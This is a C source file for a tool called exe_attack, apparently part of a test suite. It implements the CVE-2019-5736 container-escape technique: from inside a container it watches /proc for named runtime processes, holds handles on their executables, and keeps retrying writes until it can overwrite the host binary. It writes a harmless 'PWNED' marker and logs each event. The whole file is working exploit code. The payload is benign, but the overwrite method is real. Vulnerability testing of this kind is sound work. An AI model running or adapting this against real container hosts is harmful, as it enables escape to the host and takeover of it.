/* exe_attack NAMES SECONDS: the CVE-2019-5736 attacker, run as a container
 * process that can see the host's (or the target container's) processes.
 *
 * For SECONDS it scans /proc for processes whose comm is one of NAMES
 * (comma-separated).  For each new one it tries to open /proc/PID/exe for
 * writing at once (refused while the binary runs: ETXTBSY), and keeps an
 * O_PATH handle on it.  It then retries, again and again, to reopen every
 * handle for writing through /proc/self/fd/N: once the process has exited
 * or exec'd something else, a binary reached through a writable mount can
 * be opened, and then it writes "PWNED" at offset 0.
 *
 * SIGUSR1 ends it early (it is the init of its pid namespace: the signal
 * needs the handler).
 *
 * One line per event on stdout, flushed:
 *   ready
 *   target PID COMM
 *   open PID ERRNO-NAME             (the immediate O_WRONLY open)
 *   reopen PID ERRNO-NAME           (each new errno of the reopen loop)
 *   WRITTEN PID COMM                (the attack worked)
 *   done TARGETS WRITTEN */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 1024

struct target
{
  int pid;
  int fd;
  int last_errno;
  int done;
  char comm[32];
};

static struct target targets[MAX_TARGETS];
static int ntargets;
static int nwritten;
static volatile sig_atomic_t stop;

static void
on_usr1 (int sig)
{
  (void) sig;
  stop = 1;
}

static int
wanted (const char *names, const char *comm)
{
  size_t n = strlen (comm);
  for (const char *p = names; *p;)
    {
      const char *end = strchr (p, ',');
      size_t len = end ? (size_t) (end - p) : strlen (p);
      if (len == n && strncmp (p, comm, n) == 0)
        return 1;
      p += len + (end != NULL);
    }
  return 0;
}

static int
known (int pid)
{
  for (int i = 0; i < ntargets; i++)
    if (targets[i].pid == pid)
      return 1;
  return 0;
}

static void
read_comm (int pid, char *out, size_t size)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/%d/comm", pid);
  out[0] = '\0';
  FILE *f = fopen (path, "re");
  if (f == NULL)
    return;
  if (fgets (out, (int) size, f) != NULL)
    out[strcspn (out, "\n")] = '\0';
  fclose (f);
}

static void
try_write (struct target *t)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/self/fd/%d", t->fd);
  int fd = open (path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    {
      if (errno != t->last_errno)
        printf ("reopen %d %s\n", t->pid, strerrorname_np (errno));
      t->last_errno = errno;
      return;
    }
  if (pwrite (fd, "PWNED", 5, 0) == 5)
    {
      printf ("WRITTEN %d %s\n", t->pid, t->comm);
      nwritten++;
      t->done = 1;
    }
  else if (errno != t->last_errno)
    {
      printf ("reopen %d write %s\n", t->pid, strerrorname_np (errno));
      t->last_errno = errno;
    }
  close (fd);
}

static void
scan (const char *names)
{
  DIR *d = opendir ("/proc");
  struct dirent *de;
  if (d == NULL)
    return;
  while ((de = readdir (d)) != NULL && ntargets < MAX_TARGETS)
    {
      int pid = atoi (de->d_name);
      char comm[32], path[64];
      if (pid <= 0 || pid == getpid () || known (pid))
        continue;
      read_comm (pid, comm, sizeof comm);
      if (!wanted (names, comm))
        continue;
      snprintf (path, sizeof path, "/proc/%d/exe", pid);
      int fd = open (path, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue; /* gone, or a kernel thread */
      struct target *t = &targets[ntargets++];
      t->pid = pid;
      t->fd = fd;
      snprintf (t->comm, sizeof t->comm, "%s", comm);
      printf ("target %d %s\n", pid, comm);
      int wfd = open (path, O_WRONLY | O_CLOEXEC);
      printf ("open %d %s\n", pid, wfd < 0 ? strerrorname_np (errno) : "OK");
      if (wfd >= 0)
        close (wfd);
    }
  closedir (d);
}

int
main (int argc, char **argv)
{
  if (argc != 3)
    {
      fprintf (stderr, "usage: exe_attack NAMES SECONDS\n");
      return 2;
    }
  setvbuf (stdout, NULL, _IOLBF, 0);
  signal (SIGUSR1, on_usr1);
  time_t end = time (NULL) + atoi (argv[2]);
  printf ("ready\n");
  while (!stop && time (NULL) < end)
    {
      scan (argv[1]);
      for (int i = 0; i < ntargets; i++)
        if (!targets[i].done)
          try_write (&targets[i]);
      usleep (500); /* leave the runtime a CPU on a small machine */
    }
  printf ("done %d %d\n", ntargets, nwritten);
  return 0;
}
